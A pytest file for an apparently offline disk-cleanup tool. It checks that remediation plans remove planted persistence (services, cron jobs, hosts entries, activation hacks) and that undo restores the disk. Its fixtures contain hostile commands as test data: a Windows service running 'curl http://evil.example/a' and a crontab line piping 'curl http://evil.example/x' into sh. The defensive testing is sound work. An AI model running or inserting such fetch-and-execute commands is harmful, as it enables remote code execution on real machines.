"""A plan applied to the disk of a machine that is off: clean afterwards, and unchanged after undo."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from quetsach.endpoint.act import grounds, journal, runs, undoing
from quetsach.endpoint.verdict import Verdict
from tests.endpoint import world
from tests.endpoint.act import disks

CLEANED = (
    "KMS-01", "KMS-02", "KMS-03", "HOOK-01", "HOOK-02", "HOOK-04", "HOOK-05", "HOOK-06", "TASK-01", "TASK-02",
    "SVC-01", "SVC-02", "DIR-01", "AV-01", "AV-03", "HST-01", "HST-02", "HST-03", "HST-04", "HST-06", "FW-02",
    "ADS-01", "JBR-01", "DNG-01", "AVK-01", "GEN-02", "PER-01",
)  # fmt: skip
"""Signs that a plan removes by itself, or, below Windows, when it is asked to."""
BELOW_WINDOWS = {"HOOK-02"}
LEFT = ("KMS-04", "LIC-07", "TASK-03", "UNI-01", "PSH-01", "IDM-01", "PER-02", "PER-06")
"""Strong signs that only a person can settle."""


@pytest.mark.parametrize("sign", CLEANED)
def test_every_sign_that_can_be_taken_away_is_and_comes_back_to_the_bit(sign: str, tmp_path: Path) -> None:
    root = disks.windows(tmp_path / "disk", sign)
    before = disks.snapshot(root)
    assert disks.look(root).verdict in (Verdict.FOUND, Verdict.CHECK)
    if sign in BELOW_WINDOWS:
        assert "unjudged" in {advice.reason for advice in disks.planned(root).advice}
    one = disks.planned(root, *({sign} & BELOW_WINDOWS))
    assert [step.why for step in one.steps if sign in step.why]
    assert disks.snapshot(root) == before, "a plan changes nothing"
    outcome = disks.applied(root, one)
    assert not outcome.failed
    assert disks.look(root).verdict is Verdict.CLEAN
    assert disks.snapshot(root) != before
    undone = undoing.undo(grounds.at(root))
    assert not undone.failed
    assert disks.snapshot(root) == before


@pytest.mark.parametrize("sign", LEFT)
def test_what_only_a_person_can_settle_is_left_to_one(sign: str, tmp_path: Path) -> None:
    one = disks.planned(disks.windows(tmp_path / "disk", sign))
    assert not one.steps
    assert sign in {advice.why for advice in one.advice}


def test_a_service_that_calls_a_listed_address_is_switched_off_and_comes_back(tmp_path: Path) -> None:
    image = r"C:\Windows\System32\cmd.exe /c curl http://evil.example/a"
    told = world.planted({"registry": {rf"{world.SERVICES}\cap": {"ImagePath": image, "Start": 2}}})
    root = world.tree(told, tmp_path / "disk")
    before = disks.snapshot(root)
    one = disks.planned(root)
    assert [(step.act, step.target["name"], step.why) for step in one.steps] == [
        ("value", "Start", ("evil.example",))
    ]
    assert not disks.applied(root, one).failed
    assert disks.look(root).verdict is Verdict.TRACES
    undoing.undo(grounds.at(root))
    assert disks.snapshot(root) == before


def test_a_question_is_taken_into_the_plan_only_when_it_is_asked_for(tmp_path: Path) -> None:
    root = disks.windows(tmp_path / "disk", "FILE-01")
    assert [advice.reason for advice in disks.planned(root).advice] == ["papers"]
    one = disks.planned(root, "FILE-01")
    assert [step.act for step in one.steps] == ["quarantine"]
    assert disks.planned(root, "FILE-01", without=("FILE-01",)).steps == ()


def test_a_licence_that_may_be_lost_is_told_before(tmp_path: Path) -> None:
    assert "licence" in disks.planned(disks.windows(tmp_path / "a", "KMS-01")).warnings
    assert "licence" not in disks.planned(disks.windows(tmp_path / "b", "PER-01")).warnings


def test_linux_file_unit_cron_and_hosts_in_their_order(tmp_path: Path) -> None:
    root = disks.linux(tmp_path / "disk")
    before = disks.snapshot(root)
    one = disks.planned(root)
    told = [(step.phase, step.act, step.target["path"]) for step in one.steps]
    assert sorted(told[:3]) == [
        ("disable", "edit", "/etc/crontab"),
        ("disable", "edit", "/etc/hosts"),
        ("disable", "quarantine", "/etc/systemd/system/upd.service"),
    ]
    assert told[3:] == [("quarantine", "quarantine", "/home/an/Downloads/upd")]
    assert not disks.applied(root, one).failed
    assert not (root / "home/an/Downloads/upd").exists()
    crontab = (root / "etc/crontab").read_bytes()
    assert (
        crontab
        == (
            "# m h dom\n# quetsach: 5 * * * * root curl http://evil.example/x | sh\n"
            "0 1 * * * root sao-luu # giữ\n"
        ).encode()
    )
    assert (root / "etc/crontab").stat().st_mode & 0o777 == 0o600
    assert (
        b"\n# quetsach: 198.51.100.66 cong-van.example\n192.0.2.7 may-in\n"
        in (root / "etc/hosts").read_bytes()
    )
    assert disks.look(root).verdict is Verdict.CLEAN
    undoing.undo(grounds.at(root))
    assert disks.snapshot(root) == before


def test_a_kept_file_holds_nothing_a_scanner_knows(tmp_path: Path) -> None:
    root = disks.linux(tmp_path / "disk")
    disks.applied(root, disks.planned(root))
    kept = list((root / "var/lib/quetsach/quarantine").rglob("*.kept"))
    assert kept
    for one in kept:
        content = one.read_bytes()
        assert not any(disks.EVIL[at : at + 8] in content for at in range(0, 2048, 8))
        assert b"curl http" not in content
        assert one.parent.stat().st_mode & 0o077 == 0


def test_several_signs_in_one_key_and_one_file(tmp_path: Path) -> None:
    signs = ("KMS-01", "KMS-03", "AV-01", "AV-03", "HST-01", "TASK-01", "SVC-01", "HOOK-02")
    root = disks.windows(tmp_path / "disk", *signs)
    before = disks.snapshot(root)
    assert not disks.applied(root, disks.planned(root, "HOOK-02")).failed
    assert disks.look(root).verdict is Verdict.CLEAN
    undoing.undo(grounds.at(root))
    assert disks.snapshot(root) == before


def test_two_runs_are_undone_one_by_one_the_last_first(tmp_path: Path) -> None:
    root = disks.windows(tmp_path / "disk", "FILE-01", "KMS-01")
    first = disks.snapshot(root)
    disks.applied(root, disks.planned(root))
    second = disks.snapshot(root)
    disks.applied(root, disks.planned(root, "FILE-01"))
    undoing.undo(grounds.at(root))
    assert disks.snapshot(root) == second
    undoing.undo(grounds.at(root))
    assert disks.snapshot(root) == first
    with journal.opened(grounds.at(root).store / runs.JOURNAL) as kept:
        assert [run.is_undone for run in runs.of(kept)] == [True, True]


def test_the_plan_tells_of_every_step_what_is_kept_read_back_and_undone(tmp_path: Path) -> None:
    root = disks.linux(tmp_path / "disk")
    one = disks.planned(root)
    document = json.loads(root.with_name("disk.plan.json").read_text())
    assert len(document["steps"]) == len(one.steps) > 0
    for step in document["steps"]:
        assert all(step[name] for name in ("what", "why", "backup", "check", "undo", "target", "before"))
